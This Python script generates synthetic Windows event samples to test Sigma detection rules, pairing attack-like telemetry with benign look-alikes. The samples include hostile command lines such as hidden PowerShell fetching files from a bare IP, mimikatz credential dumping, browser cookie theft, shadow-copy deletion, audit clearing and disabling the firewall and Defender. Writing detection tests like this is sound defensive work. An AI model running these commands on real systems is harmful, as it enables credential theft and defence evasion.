"""Writes the samples of `windows-settings.yml` into `rules/cases/sigma`, as `windows.py` does for the other Windows rules.

python tests/cases/sigma/windows_settings.py
"""

# ruff: noqa: E501 - tables read better in one line a row
from __future__ import annotations

from windows import (
    ATTACKER,
    EXPLORER,
    INSIDE,
    POWERSHELL,
    SYSTEM,
    Record,
    alone,
    case,
    logon,
    ran,
    record,
    security,
    service,
    started,
    sysmon,
)

ON, OFF = "DWORD (0x00000001)", "DWORD (0x00000000)"


def registry(path: str, details: str) -> Record:
    return sysmon(13, Image=SYSTEM + "reg.exe", TargetObject=path, Details=details, EventType="SetValue")


def written(path: str, image: str = "C:\\Users\\Public\\x.exe", seconds: int = 0, host: str = "") -> Record:
    one = sysmon(11, seconds, Image=image, TargetFilename=path)
    return one | {"Computer": host} if host else one


def changed(
    attribute: str, value: str, name: str = "CN=x,DC=backan", who: str = "canbo01", kind: str = "%%14674"
) -> Record:
    return security(
        5136,
        ObjectDN=name,
        AttributeLDAPDisplayName=attribute,
        AttributeValue=value,
        SubjectUserName=who,
        OperationType=kind,
    )


def settings() -> None:
    alone(80, "By each way; switched on, and one port opened, are none.",
          [ran("netsh.exe", "netsh advfirewall  set allprofiles state off"), ran("netsh.exe", "NETSH firewall set opmode disable"), started(POWERSHELL, "powershell Set-NetFirewallProfile -All -Enabled False"), ran("sc.exe", "sc stop MpsSvc")],
          [ran("netsh.exe", "netsh advfirewall set allprofiles state on"), ran("netsh.exe", "netsh advfirewall firewall add rule name=in dir=in action=allow protocol=tcp localport=9100"), ran("sc.exe", "sc query mpssvc")])  # fmt: skip
    policy = "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile\\"
    alone(
        81,
        "Off; on, and another value of the same key, are none.",
        [registry(policy + "EnableFirewall", OFF)],
        [registry(policy + "EnableFirewall", ON), registry(policy + "DisableNotifications", OFF)],
    )
    server = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\"
    alone(82, "Let in, and let in without the password first; shut again is none.", [registry(server + "fDenyTSConnections", OFF), registry(server + "WinStations\\RDP-Tcp\\UserAuthentication", OFF)],
          [registry(server + "fDenyTSConnections", ON), registry(server + "fSingleSessionPerUser", OFF)])  # fmt: skip
    alone(83, "By registry, WMI, firewall; asked for, shut, and a rule taken away are none.",
          [ran("reg.exe", 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'), ran("wbem\\WMIC.exe", "wmic rdtoggle where ServerName='MAY-01' call SetAllowTSConnections 1"), ran("netsh.exe", 'netsh advfirewall firewall set rule group="Remote Desktop" new enable=Yes')],
          [ran("reg.exe", 'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections'), ran("reg.exe", "reg add HKLM\\x /v fDenyTSConnections /t REG_DWORD /d 1 /f"), ran("netsh.exe", 'netsh advfirewall firewall set rule group="Remote Desktop" new enable=No')])  # fmt: skip
    alone(84, "A folder; a printer's drivers are none.", [security(5142, ShareName="\\\\*\\DuLieu", ShareLocalPath="D:\\DuLieu", SubjectUserName="canbo01")],
          [security(5142, ShareName="\\\\*\\print$", ShareLocalPath=SYSTEM + "spool\\drivers"), security(5144, ShareName="\\\\*\\DuLieu")])  # fmt: skip
    alone(48, "The whole drive, or everyone with all rights; one folder for reading is none.",
          [ran("net.exe", "net share c=C:\\ /grant:everyone,full"), started(POWERSHELL, "powershell New-SmbShare -Name d -Path D:\\VanBan -FullAccess Everyone"), ran("net.exe", 'net  share x="D:\\"')],
          [ran("net.exe", "net share VanBan=D:\\VanBan /grant:VanThu,read"), ran("net.exe", "net share")])  # fmt: skip
    alone(95, "Macros run unasked; asked, and files from the network blocked, are none.", [registry("HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings", ON), registry("HKU\\S-1-5-21-1\\Software\\Policies\\Microsoft\\office\\16.0\\excel\\security\\blockcontentexecutionfrominternet", OFF)],
          [registry("HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings", "DWORD (0x00000002)"), registry("HKU\\S-1-5-21-1\\Software\\Policies\\Microsoft\\office\\16.0\\excel\\security\\blockcontentexecutionfrominternet", ON)])  # fmt: skip
    defend = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
    alone(99, "Off, or a user's folder left out; on, and the folder of a database left out, are none.", [registry(defend + "DisableAntiSpyware", ON), registry("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public", OFF)],
          [registry(defend + "DisableAntiSpyware", OFF), registry("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\D:\\CSDL\\Data", OFF)])  # fmt: skip
    alone(17, "Cleared, or success taken away; asked for and added are none.", [ran("auditpol.exe", "auditpol /clear /y"), started("C:\\Temp\\a.exe", 'a.exe /set /category:"Logon/Logoff" /success:disable', OriginalFileName="AUDITPOL.EXE")],
          [ran("auditpol.exe", "auditpol /get /category:*"), ran("auditpol.exe", "auditpol /set /subcategory:Logon /success:enable")])  # fmt: skip


def directory() -> None:
    tasks = "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
    alone(85, "A policy gets tasks; it gets a wallpaper, or loses the tasks.", [changed("gPCMachineExtensionNames", tasks)],
          [changed("gPCMachineExtensionNames", "[{35378EAC-683F-11D2-A89A-00C04FBBCFA2}]"), changed("gPCMachineExtensionNames", tasks, kind="%%14675")])  # fmt: skip
    folder = "C:\\Windows\\SYSVOL\\sysvol\\backan.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\"
    alone(49, "By a person's program; by the replication of the controllers, and another file, are none.", [written(folder + "Preferences\\ScheduledTasks\\ScheduledTasks.xml", SYSTEM + "mmc.exe")],
          [written("C:\\Windows\\System32\\GroupPolicy\\DataStore\\0\\sysvol\\backan.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\Groups\\Groups.xml", SYSTEM + "svchost.exe"), written(folder + "Preferences\\ScheduledTasks\\ScheduledTasks.xml", SYSTEM + "DFSRs.exe"), written(folder + "Registry.pol", SYSTEM + "mmc.exe")])  # fmt: skip
    alone(
        86,
        "The object itself; a protected account is none.",
        [changed("nTSecurityDescriptor", "O:DAG:DAD:", "CN=AdminSDHolder,CN=System,DC=backan,DC=example")],
        [changed("nTSecurityDescriptor", "O:DAG:DAD:", "CN=Quan tri,CN=Users,DC=backan,DC=example")],
    )

    def ticket(kind: str, name: str = "canbo01", seconds: int = 0) -> Record:
        return security(
            4768, seconds, TargetUserName=name, TicketEncryptionType=kind, Status="0x0", IpAddress=f"::ffff:{INSIDE}"
        )

    case(88, "With RC4, then onto a machine; with AES, by a machine, or from elsewhere, is none.", [[ticket("0x17"), logon(4624, INSIDE, seconds=60)]],
         [[ticket("0x12"), logon(4624, INSIDE, seconds=60)], [ticket("0x17", "MAY-01$"), logon(4624, INSIDE, user="MAY-01$", seconds=60)], [ticket("0x17"), logon(4624, "10.9.9.9", seconds=60)]], "correlation")  # fmt: skip
    alone(89, "A broken seal; a ticket that is only too old is none.", [security(4769, TargetUserName="canbo01@BACKAN", ServiceName="MAY-02$", TicketEncryptionType="0xffffffff", Status="0x1F")],
          [security(4769, TargetUserName="canbo01@BACKAN", ServiceName="MAY-02$", TicketEncryptionType="0x12", Status="0x20"), security(4769, TargetUserName="canbo01@BACKAN", ServiceName="krbtgt", TicketEncryptionType="0x12", Status="0x0")])  # fmt: skip
    alone(98, "By a person; by the machine itself and the synchronisation, and another attribute, are none.", [changed("msDS-KeyCredentialLink", "B:828:0002"), changed("msDS-AllowedToActOnBehalfOfOtherIdentity", "O:BAD:")],
          [changed("msDS-KeyCredentialLink", "B:828:0002", who="MAY-01$"), changed("msDS-KeyCredentialLink", "B:828:0002", who="MSOL_1a2b"), changed("description", "x")])  # fmt: skip


def by_hand() -> None:
    alone(90, "As a service; the print service is none.", [service("AnyDesk Service", '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service'), service("Hotro", '"C:\\Tools\\rustdesk.exe" --service'), security(4697, ServiceName="x", ServiceFileName="C:\\Windows\\rutserv.exe -service")],
          [service("Spooler2", "C:\\Program Files\\May in\\spool.exe"), service("Client", "C:\\Program Files\\Phan mem\\client.exe")])  # fmt: skip
    user = "C:\\Users\\canbo01\\AppData\\Local\\CocCoc\\Browser\\User Data\\Default\\"
    alone(91, "Copied, packed; the browser that opens its own folder is none.", [ran("cmd.exe", f'cmd /c copy "{user}Login Data" C:\\Temp\\l'), ran("esentutl.exe", f'esentutl /y "{user}Network\\Cookies" /d c.db')],
          [started("C:\\Program Files\\CocCoc\\browser.exe", f'browser.exe --user-data-dir="{user}"'), ran("cmd.exe", "cmd /c copy D:\\VanBan\\a.docx E:\\")])  # fmt: skip
    alone(92, "With a password, by each program; without, and unpacking, are none.", [started("C:\\Program Files\\WinRAR\\Rar.exe", "rar a -hpMatKhau1 D:\\a.rar D:\\VanBan"), started("C:\\Temp\\z.exe", "z.exe a -pabc123 x.7z C:\\Users", OriginalFileName="7z.exe")],
          [started("C:\\Program Files\\WinRAR\\Rar.exe", "rar a D:\\a.rar D:\\VanBan"), started("C:\\Program Files\\7-Zip\\7z.exe", "7z x -pabc123 a.7z")])  # fmt: skip
    locked = [written(f"D:\\VanBan\\Phong{n}\\cong-van-{n}.docx.lock3d", seconds=n) for n in range(45)]
    case(94, "Forty-five in a minute; backups and signatures of a program, and five, are none.", [locked],
         [[written(f"D:\\VanBan\\cong-van-{n}.docx.p7s", seconds=n) for n in range(45)], [written(f"D:\\VanBan\\cong-van-{n}.docx", seconds=n) for n in range(45)], locked[:5]], "correlation")  # fmt: skip
    alone(96, "Looks for its own hidden part, or fetches it unseen; a folder opened by a shell is none.", [ran("cmd.exe", "cmd.exe /c for %i in (*.lnk) do findstr /b X %i > %temp%\\a.js", EXPLORER), started(POWERSHELL, "powershell -w hidden -nop -c $a=$env:TEMP+'\\x.pdf'; iwr http://203.0.113.9/a -OutFile $a"), ran("cmd.exe", "cmd.exe" + " " * 60 + "/c calc", EXPLORER)],
          [ran("cmd.exe", 'cmd.exe /c "D:\\Cong cu\\sao-luu.cmd"', EXPLORER), started(POWERSHELL, "powershell -ExecutionPolicy RemoteSigned -File D:\\sl.ps1")])  # fmt: skip

    def image(path: str, number: int = 1) -> Record:
        return record(
            "Microsoft-Windows-VHDMP-Operational",
            "Microsoft-Windows-VHDMP",
            number,
            {"VhdFileName": path, "VhdDiskNumber": 2},
        )

    alone(97, "From the downloads or a mail; the disc of a server, and another event, are none.", [image("C:\\Users\\canbo01\\Downloads\\cong-van.iso"), image("C:\\Users\\canbo01\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\A1\\moi-hop.img", 12)],
          [image("D:\\MayAo\\may-chu.vhdx"), image("C:\\Users\\canbo01\\Downloads\\cong-van.iso", 26)])  # fmt: skip

    def stick(host: int, number: str, seconds: int) -> Record:
        one = security(6416, seconds, DeviceId=f"USBSTOR\\Disk&Ven_X&Prod_Y\\{number}&0", ClassName="DiskDrive")
        return one | {"Computer": f"MAY-{host:02d}.backan.example"}

    case(74, "One stick on five machines; five sticks, and one stick on one machine, are none.", [[stick(n, "60A44C", 3600 * n) for n in range(5)]],
         [[stick(n, f"60A44{n}", 3600 * n) for n in range(5)], [stick(1, "60A44C", 3600 * n) for n in range(5)]], "correlation")  # fmt: skip
    script = record(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        4104,
        {"ScriptBlockText": "gwmi Win32_ShadowCopy | % { $_.Delete() }", "MessageNumber": 1},
    )
    alone(
        18,
        "Deleted; listed is none.",
        [script],
        [script | {"ScriptBlockText": "Get-CimInstance Win32_ShadowCopy | Format-Table"}],
    )
    alone(
        64,
        "Whatever the program is called; a name that only sounds so is none.",
        [
            started("C:\\Temp\\a.exe", 'a.exe "PRIVILEGE::debug" "sekurlsa::logonpasswords" exit'),
            started("C:\\Temp\\r.exe", "r.exe asktgt /user:quantri /rc4:00"),
        ],
        [started("C:\\Program Files\\x.exe", "x.exe --task-target privilege"), ran("cmd.exe", "cmd /c echo kerberos")],
    )
    start = "C:\\Users\\canbo01\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
    alone(
        65,
        "A script and a program; a shortcut is none.",
        [written(start + "a.VBS"), written(start + "capnhat.exe")],
        [written(start + "Zalo.lnk"), written(start + "desktop.ini")],
    )
    alone(66, "A child, a shell under another name, the replacing itself; the magnifier that opens its settings is none.", [ran("cmd.exe", "cmd.exe", SYSTEM + "utilman.exe"), ran("sethc.exe", "sethc.exe 211", SYSTEM + "winlogon.exe", OriginalFileName="Cmd.Exe"), ran("cmd.exe", "cmd /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe")],
          [ran("magnify.exe", "magnify.exe", SYSTEM + "utilman.exe", OriginalFileName="ScreenMagnifier.exe"), ran("cmd.exe", "cmd /c dir C:\\Windows\\System32\\sethc.exe")])  # fmt: skip
    kept = record(
        "Microsoft-Windows-WMI-Activity/Operational",
        "Microsoft-Windows-WMI-Activity",
        5861,
        {
            "Namespace": "//./root/subscription",
            "PossibleCause": 'instance of CommandLineEventConsumer { CommandLineTemplate = "a.exe"; };',
        },
    )
    alone(
        67,
        "A command; the entry that Windows brings along is none.",
        [kept],
        [
            kept | {"PossibleCause": 'instance of NTEventLogEventConsumer { Name = "SCM Event Log Consumer"; };'},
            kept | {"EventID": 5857},
        ],
    )
    alone(58, "From a bare address; from a name, and from our own network, are none.", [ran("curl.exe", "curl -s -o C:\\Temp\\a.dll http://203.0.113.9:8080/a.dll"), started(POWERSHELL, "powershell iwr http://203.0.113.9/x.txt -OutFile x.ps1")],
          [ran("curl.exe", "curl -o a.msi https://phanmem.backan.example/a.msi"), ran("curl.exe", "curl -o a.exe http://10.20.1.5/a.exe"), ran("curl.exe", "curl http://203.0.113.9/")])  # fmt: skip

    def session(number: int, ip: str) -> Record:
        return record(
            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
            "Microsoft-Windows-TerminalServices-LocalSessionManager",
            number,
            {"User": "BACKAN\\canbo01", "Address": ip, "SessionID": 2},
        )

    alone(
        47,
        "From the Internet, new and taken up again; inside, at the machine, and its end are none.",
        [session(21, ATTACKER), session(25, ATTACKER)],
        [session(21, INSIDE), session(21, "LOCAL"), session(24, ATTACKER)],
    )


def tools() -> None:
    alone(100, "A dump, a ticket, a hive; a program's own log is none.", [written("C:\\Users\\Public\\lsass.DMP"), written("C:\\Temp\\a.kirbi"), written("C:\\Windows\\Temp\\ntds.dit")],
          [written("C:\\Windows\\NTDS\\ntds.dit", SYSTEM + "lsass.exe"), written("D:\\Bao cao\\lsass-la-gi.docx"), written("C:\\CrashDumps\\winword.dmp")])  # fmt: skip
    alone(101, "A shell above the question, or by the object that asks nothing; what these programs start themselves is none.", [ran("cmd.exe", "cmd.exe /c a", SYSTEM + "fodhelper.exe"), started("C:\\Temp\\a.exe", "a.exe", SYSTEM + "dllhost.exe", ParentCommandLine="dllhost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}")],
          [ran("mmc.exe", "mmc.exe eventvwr.msc", SYSTEM + "eventvwr.exe"), ran("cmd.exe", "cmd.exe", SYSTEM + "dllhost.exe", ParentCommandLine="dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}")])  # fmt: skip
    alone(
        102,
        "A word into a pipe; a pipe that is only named is none.",
        [ran("cmd.exe", "cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef", SYSTEM + "services.exe")],
        [started("C:\\Program Files\\CSDL\\csdl.exe", "csdl.exe --pipe \\\\.\\pipe\\csdl")],
    )
    alone(
        103,
        "A random name; a driver that is fetched is none.",
        [security(5145, ShareName="\\\\*\\ADMIN$", RelativeTargetName="SYSTEM32\\hIqwZkPc.tmp", IpAddress=INSIDE)],
        [
            security(5145, ShareName="\\\\*\\ADMIN$", RelativeTargetName="system32\\spool\\may-in.dll"),
            security(5145, ShareName="\\\\*\\VanBan", RelativeTargetName="system32\\hiqwzkpc.tmp"),
        ],
    )
    alone(104, "By PsExec, from the console called from afar, by the printer; the console of a person, and the printer's dialogue, are none.", [ran("cmd.exe", "cmd", "C:\\Windows\\PSEXESVC.exe"), ran("cmd.exe", "cmd /c a", SYSTEM + "mmc.exe", ParentCommandLine="mmc.exe -Embedding"), ran("cmd.exe", "cmd", SYSTEM + "spoolsv.exe")],
          [ran("cmd.exe", "cmd", SYSTEM + "mmc.exe", ParentCommandLine="mmc.exe compmgmt.msc"), ran("rundll32.exe", "rundll32 printui.dll,PrintUIEntry", SYSTEM + "spoolsv.exe")])  # fmt: skip
    block = record(
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-PowerShell",
        4104,
        {"ScriptBlockText": "function invoke-MIMIKATZ { }", "MessageNumber": 1},
    )
    alone(
        106,
        "By its function; a script of the office is none.",
        [block],
        [block | {"ScriptBlockText": "function Sao-Luu { Get-ADUser -Filter * }"}],
    )
    alone(
        107,
        "Set; refused is none.",
        [security(4794, Status="0x0", SubjectUserName="canbo01")],
        [security(4794, Status="0xc0000022", SubjectUserName="canbo01"), security(4724, TargetUserName="canbo02")],
    )
    control = "HKLM\\System\\CurrentControlSet\\Control\\"
    key = sysmon(12, Image=SYSTEM + "reg.exe", TargetObject=control + "MiniNt", EventType="CreateKey")
    alone(109, "The key of the setup, the service that no longer starts; the key taken away, and the service as it was, are none.", [key, registry("HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start", "DWORD (0x00000004)")],
          [key | {"EventType": "DeleteKey"}, registry("HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start", "DWORD (0x00000002)")])  # fmt: skip
    alone(110, "Readable, weak, without its guard; made strong again is none.", [registry(control + "SecurityProviders\\WDigest\\UseLogonCredential", ON), registry(control + "Lsa\\LmCompatibilityLevel", "DWORD (0x00000002)"), registry(control + "Lsa\\RunAsPPL", OFF), registry(control + "Lsa\\DisableRestrictedAdmin", OFF)],
          [registry(control + "SecurityProviders\\WDigest\\UseLogonCredential", OFF), registry(control + "Lsa\\LmCompatibilityLevel", "DWORD (0x00000005)"), registry(control + "Lsa\\RunAsPPL", ON)])  # fmt: skip
    option = record("Application", "MSSQLSERVER", 15457, {"Data": ["xp_cmdshell", "0", "1"]})
    alone(108, "That option; another is none.", [option], [option | {"Data": ["show advanced options", "0", "1"]}])


def main() -> None:
    settings()
    directory()
    by_hand()
    tools()


if __name__ == "__main__":
    main()
